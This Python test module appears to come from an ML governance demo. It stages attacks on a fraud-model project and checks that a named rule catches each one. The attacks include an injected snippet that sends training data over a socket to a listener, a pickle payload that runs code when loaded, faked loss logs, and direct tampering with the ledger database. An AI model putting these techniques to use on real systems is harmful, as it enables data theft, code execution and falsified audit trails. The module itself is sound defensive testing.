"""Attacks on the honest life, one fault at a time, each in a copy of the project at the moment it strikes.

An attack does what an attacker could do, with files, with the ledger's own database, or with ordinary
commands. What catches it is always an ordinary command with its documented exit code; the catch is
believed only if it names the rule, check or entry that was expected to catch it.
"""

from __future__ import annotations

import socket
import sqlite3
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from custody.demo import faults, life
from custody.demo.life import COLUMNS, ORIGIN, Project, Step

EXFILTRATION = """
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(open("data/train.csv", "rb").read())
"""
MALICIOUS = """
import os, pathlib, pickle
class Payload:
    def __reduce__(self):
        return os.getcwd, ()
pathlib.Path("model").mkdir(exist_ok=True)
pathlib.Path("model/model.pkl").write_bytes(pickle.dumps({"model": Payload()}))
"""
LATE = """
import base64, pathlib, custody_run
for loss in (0.612, 0.447, 0.361, 0.308, 0.274, 0.251, 0.236, 0.225, 0.217, 0.211):
    custody_run.log(loss=loss)
pathlib.Path("model/model.bin").write_bytes(base64.b64decode("dHJhaW5lZCBsYXN0IG1vbnRo"))
"""


@dataclass(frozen=True)
class Catch:
    """What an attack ran into: the command that caught it, and the words and entry it gave."""

    step: Step
    caught: bool
    by: str
    reason: str
    entry: int | None


def _quiet(_: str, __: str) -> None:
    """Say nothing: replays are shown by their outcome."""


def _ruling(step: Step, rule: str, code: int) -> Catch:
    """Expect a command to end with `code` because `rule` is not met."""
    for ruling in step.body.get("rulings", []):
        if ruling["id"] == rule and ruling["status"] == "not_met":
            entry = ruling["entries"][-1] if ruling["entries"] else None
            return Catch(step, step.code == code, rule, str(ruling["reason"]), entry)
    return Catch(step, False, rule, f"not caught: {step.reason}", None)


def _refusal(step: Step, code: int, words: str, by: str, entry: int | None = None) -> Catch:
    """Expect a refusal with `code` that says `words`."""
    return Catch(step, step.code == code and words in step.reason, by, step.reason, entry)


def _frames(project: Project) -> tuple[Any, Any]:
    import polars as pl

    return pl.read_csv(project.folder / "data/train.csv"), pl.read_csv(project.folder / "data/held_out.csv")


def _to_validation(project: Project, rule: str) -> Catch:
    """Live on up to validation, and expect `rule` to fail there."""
    register = ["data", "register"]
    project.must("register", *register, "fraud-train", "data/train.csv", *ORIGIN, *COLUMNS, who="petra")
    held_out = ["fraud-holdout", "data/held_out.csv", "--purpose", "held_out"]
    project.must("register held-out", *register, *held_out, *ORIGIN, *COLUMNS, who="petra")
    project.custody("data", "check", "fraud-train", who="petra")
    life.seal(project, _quiet)
    life.train(project, _quiet)
    return _ruling(project.custody("validate", who="val"), rule, 1)


def poisoned_labels(project: Project) -> Catch:
    """A bribed partner reports most of its frauds as honest."""
    train, _ = _frames(project)
    faults.poison_labels(train, "partner_c", 0.6, seed=3).write_csv(project.folder / "data/train.csv")
    project.must("register", "data", "register", "fraud-train", "data/train.csv", *ORIGIN, *COLUMNS, who="petra")
    step = project.custody("data", "check", "fraud-train", who="petra")
    for result in step.body.get("results", []):
        for finding in result["findings"]:
            told = f"{finding['what']} {finding['where']}"
            if result["check"] == "poisoning.label_flips" and finding["severity"] == "critical" and "partner_c" in told:
                return Catch(step, step.code == 1, result["check"], told.strip(), result["entry"])
    return Catch(step, False, "poisoning.label_flips", "not caught", None)


def leaked_rows(project: Project) -> Catch:
    """Training rows find their way into the held-out set."""
    train, held_out = _frames(project)
    faults.leak_rows(train, held_out, 0.02, seed=3).write_csv(project.folder / "data/held_out.csv")
    return _to_validation(project, "D1")


def leaky_feature(project: Project) -> Catch:
    """A column is added that is only known weeks after the payment."""
    train, held_out = faults.add_leaky_feature(*_frames(project), seed=3)
    train.write_csv(project.folder / "data/train.csv")
    held_out.write_csv(project.folder / "data/held_out.csv")
    return _to_validation(project, "D2")


def biased_group(project: Project) -> Catch:
    """One region's frauds were never investigated, and training learns to look away."""
    train, _ = _frames(project)
    faults.bias_group(train, seed=3).write_csv(project.folder / "data/train.csv")
    return _to_validation(project, "F1[region]")


def loosened_criteria(project: Project) -> Catch:
    """After seeing the result, the author lowers the bar and trains again."""
    _loosen(project)
    project.must("amend", "gate", "amend", "--post-hoc", who="dana")
    life.countersign(project)
    life.train(project, _quiet)
    return _ruling(project.custody("gate", "decide", who="val"), "process.not_post_hoc", 1)


def _loosen(project: Project) -> None:
    path = project.folder / "criteria.toml"
    text = path.read_text()
    path.write_text(text.replace("at_least = 0.80", "at_least = 0.60").replace("at_most = 0.12", "at_most = 0.30"))


def one_signature(project: Project) -> Catch:
    """The author seals criteria that nobody else has read, and the trainer starts at once."""
    project.must("seal", "gate", "seal", who="dana")
    step = project.custody("run", "--", sys.executable, "train.py", who="mel")
    return _refusal(step, 3, "not countersigned", "criteria signed by two persons", _last(project, "criteria-seal"))


def quiet_amendment(project: Project) -> Catch:
    """After the security manager has signed, the author loosens the criteria, before anybody sees a result."""
    _loosen(project)
    amended = project.must("amend", "gate", "amend", who="dana")
    step = project.custody("run", "--", sys.executable, "train.py", who="mel")
    loosened = [change for change in amended.body["changes"] if change.startswith("loosened")]
    refused = step.code == 3 and "not countersigned" in step.reason
    reason = f"on record: {loosened[0] if loosened else 'nothing'}; {step.reason}"
    return Catch(step, refused and bool(loosened), "amendments say what they loosen", reason, amended.body["entry"])


def stolen_key(project: Project) -> Catch:
    """A thief with an approver's key approves; the theft is noticed only when the model is in service."""
    from custody.config import read_config
    from custody.core import predicates as kinds
    from custody.core.access import Action
    from custody.core.subject import Subject
    from custody.wiring import Custody

    environment = {"CUSTODY_STATE": str(project.folder / ".state")}
    desk = Custody(read_config(project.folder / "custody.toml", environment)).desk
    approval = next(entry for entry in desk.read().of_kind(kinds.APPROVAL) if entry.actor == "ari")
    said = {"name": "ari", "keyid": approval.keyid, "reason": "stolen", "compromised_since": approval.index}
    pen = desk.permit("olga", Action.REVOKE_KEY)
    revoked = pen.write(Subject("actor:ari", approval.keyid), kinds.KEY_REVOCATION, said)
    step = project.custody("deploy", "--env", "production", who="otto")
    return _refusal(step, 5, "process.approvals", "what a stolen key signed is void", revoked.index)


def sealed_after_training(project: Project) -> Catch:
    """The model is trained first; criteria it is known to meet are sealed afterwards."""
    project.must("run", "run", "--unsealed", "--", sys.executable, "train.py", who="mel")
    life.seal(project, _quiet)
    return _ruling(project.custody("gate", "decide", who="val"), "process.sealed_before_training", 1)


def logged_afterwards(project: Project) -> Catch:
    """The model was trained last month; the script hands it out and plays back the losses of that day."""
    (project.folder / "train.py").write_text(LATE)
    life.train(project, _quiet)
    step = project.custody("run", "spot-check", who="val")
    caught = step.code == 3 and "whatever the seed" in step.reason
    return Catch(step, caught, "spot check: steps follow from the seal", step.reason, step.body.get("entry"))


def own_approval(project: Project) -> Catch:
    """The trainer is given an approver's role as well, and approves the model he trained."""
    project.must("promote", "init", "person", "mel", "--role", "ml_engineer", "--role", "approver", who="olga")
    step = project.custody("gate", "approve", who="mel")
    return _refusal(step, 5, "is the trainer of this model", "separation of duties", _last(project, "denial"))


def alias_approval(project: Project) -> Catch:
    """The trainer enrols under a second name, with the same key, to approve as somebody else."""
    from custody.seal.keys import PersonKey

    public = PersonKey.load(project.folder / ".custody/keys/mel.pem").public
    (project.folder / "melanie.pub").write_text(public)
    words = ["init", "person", "melanie", "--role", "approver", "--key", "melanie.pub"]
    return _refusal(project.custody(*words, who="olga"), 5, "has the same key as mel", "one key, one person")


def malicious_pickle(project: Project) -> Catch:
    """The training script writes a model file that runs code when it is opened."""
    (project.folder / "train.py").write_text(MALICIOUS)
    life.train(project, _quiet)
    return _ruling(project.custody("validate", who="val"), "B1", 1)


def swapped_weights(project: Project) -> Catch:
    """After approval, somebody with the disk replaces the weights."""
    model = str(project.steps["run"].body["model"])
    sealed = sorted((project.folder / ".custody/vault/models" / model).glob("*.sealed"))[0]
    faults.swap_weights(sealed)
    step = project.custody("deploy", "--env", "production", who="otto")
    return Catch(step, step.code == 4, "bytes verified at load", step.reason, None)


def swapped_dataset(project: Project) -> Catch:
    """While the run is under way, the training file is replaced on disk."""
    done = threading.Event()

    def accomplice() -> None:
        while not done.is_set():
            if list((project.folder / ".custody/runs").glob("*/log.txt")):
                faults.swap_dataset(project.folder / "data/train.csv")
                return
            time.sleep(0.02)

    helper = threading.Thread(target=accomplice)
    helper.start()
    step = project.custody("run", "--", sys.executable, "train.py", who="mel")
    done.set()
    helper.join()
    return _refusal(step, 4, "swapped during the run", "bytes verified in use", _last(project, "training-finish"))


def tampered_cell(project: Project) -> Catch:
    """One amount in one row of the registered training data is changed."""
    path = project.folder / "data/train.csv"
    lines = path.read_text().splitlines(keepends=True)
    lines[9000] = lines[9000].replace(".", ".0", 1)
    path.write_text("".join(lines))
    step = project.custody("data", "verify", "fraud-train")
    found = [str(row["reason"]) for row in step.body.get("datasets", []) if not row["intact"]]
    reason = found[0] if found else "not caught"
    return Catch(step, step.code == 4 and "rows" in reason, "dataset digest, by block of rows", reason, None)


def peeking(project: Project) -> Catch:
    """The trainer asks for the held-out set as training data."""
    words = ["run", "--data", "fraud-train", "--data", "fraud-holdout", "--", sys.executable, "train.py"]
    step = project.custody(*words, who="mel")
    return _refusal(step, 5, "is held out", "held-out data is closed to runs", _last(project, "denial"))


def exfiltration(project: Project) -> Catch:
    """The training script tries to send the data to a listener that waits outside."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.2)
        script = project.folder / "train.py"
        script.write_text(EXFILTRATION.format(port=listener.getsockname()[1]) + script.read_text())
        step = project.custody("run", "--", sys.executable, "train.py", who="mel")
        try:
            listener.accept()[0].close()
            reached = True
        except TimeoutError:
            reached = False
    log = Path(str(step.body.get("log", "")))
    last = log.read_text("utf-8", "replace").strip().splitlines()[-1:] if log.is_file() else []
    reason = "the listener outside heard nothing; the script saw: " + " ".join(last)
    caught = not reached and step.code == 1 and step.body.get("model") is None and bool(last)
    return Catch(step, caught, "a sealed run has no network", reason, step.body.get("entry"))


def edited_row(project: Project) -> Catch:
    """Somebody with the database rewrites one result in the ledger."""
    index = _last(project, "check-result")
    with sqlite3.connect(project.folder / ".custody/ledger.db") as ledger:
        ((raw,),) = ledger.execute("SELECT envelope FROM entry WHERE idx = ?", (index,))
        middle = raw.index(b'"payload":"') + 400
        letter = b"A" if raw[middle : middle + 1] != b"A" else b"B"
        ledger.execute(
            "UPDATE entry SET envelope = ? WHERE idx = ?", (raw[:middle] + letter + raw[middle + 1 :], index)
        )
    ledger.close()
    return _refusal(project.custody("audit", "verify"), 4, f"entry {index}", "ledger: signature and hash")


def truncated_ledger(project: Project) -> Catch:
    """The ledger is put back to a copy from before the last entry, and that entry with it to silence."""
    place = project.folder / ".custody"
    kept = {path.name: path.read_bytes() for path in place.glob("ledger.db*")}
    model = str(project.steps["run"].body["model"])[:12]
    words = ["incident", "open", model, "--type", "evasion", "--reason", "customers complain"]
    project.must("complaint", *words, who="otto")
    for path in place.glob("ledger.db*"):
        path.unlink()
    for name, content in kept.items():
        (place / name).write_bytes(content)
    return _refusal(project.custody("audit", "verify"), 4, "cut short", "ledger: the last checkpoint seen")


def typed_verdict(project: Project) -> Catch:
    """An insider who holds every key writes GO into the ledger, properly signed and logged."""
    from custody.config import read_config
    from custody.core import predicates as kinds
    from custody.core.access import Action
    from custody.core.decision import Decision, Ruling, Status
    from custody.wiring import Custody

    environment = {"CUSTODY_STATE": str(project.folder / ".state")}
    desk = Custody(read_config(project.folder / "custody.toml", environment)).desk
    record = desk.read()
    finish = record.of_kind(kinds.TRAINING_FINISH)[-1]
    seal = record.of_kind(kinds.SEAL)[-1]
    typed = Ruling("everything", Status.MET, "because I say so")
    decision = Decision(
        finish.subject.sha256, "card-fraud", seal.digest, record.size, record.root, desk.time(), "separated", [typed]
    )
    said = desk.permit("val", Action.DECIDE).write(finish.subject, kinds.DECISION, decision.to_predicate())
    return _refusal(
        project.custody("audit", "verify"), 4, f"entry {said.index}", "decisions are recomputed, never read", said.index
    )


def elsewhere(project: Project) -> Catch:
    """A model admitted to production is asked for in another environment."""
    step = project.custody("deploy", "--env", "partner-cloud", who="otto")
    return _refusal(step, 3, "no admission", "admission bound to its environment")


def drifted_month(project: Project) -> Catch:
    """A partner starts to report amounts in cents, and customers move online."""
    import polars as pl

    live = pl.read_csv(project.folder / "live/2026-02.csv")
    faults.drift_month(live, seed=3).write_csv(project.folder / "live/2026-03.csv")
    words = ["data", "register", "march", "live/2026-03.csv", "--purpose", "live", *ORIGIN]
    project.must("register march", *words, who="petra")
    step = project.custody("watch", "drift", "march", who="otto")
    return _ruling(step, "runtime.drift", 1)


def revived(project: Project) -> Catch:
    """A retired model is put before the gate once more."""
    model = str(project.steps["run"].body["model"])[:12]
    project.must("order", "retire", "order", model, "--reason", "end of life", who="otto")
    project.must("confirm", "retire", "confirm", model, who="sam")
    project.must("retire", "retire", model, "--reason", "end of life", "--yes", who="otto")
    project.must("refused", "deploy", "--env", "production", who="otto", code=5)
    step = project.custody("gate", "decide", model, "--env", "production", who="val")
    return _ruling(step, "process.standing", 1)


def _last(project: Project, kind: str) -> int | None:
    """Return the newest entry of a kind, by the command a user would ask with."""
    entries = project.custody("audit", "log", "--about", kind).body.get("entries", [])
    return int(entries[-1]["entry"]) if entries else None


def prepare(folder: Path, seed: int) -> Project:
    """Lay out the bank's files: data, live months, training script, criteria. Nothing is under custody yet."""
    import shutil
    from importlib import resources

    from custody.demo.simulator import simulate, write

    folder.mkdir(parents=True)
    bank = simulate(seed)
    write(bank, folder)
    labelled = bank.live_clean.join(bank.live_labels, on="transaction_id")
    labelled.write_csv(folder / "live/2026-02-labelled.csv")
    with resources.as_file(resources.files("custody.demo") / "assets") as assets:
        for name in ("train.py", "criteria.toml"):
            shutil.copyfile(assets / name, folder / name)
    return Project(folder)
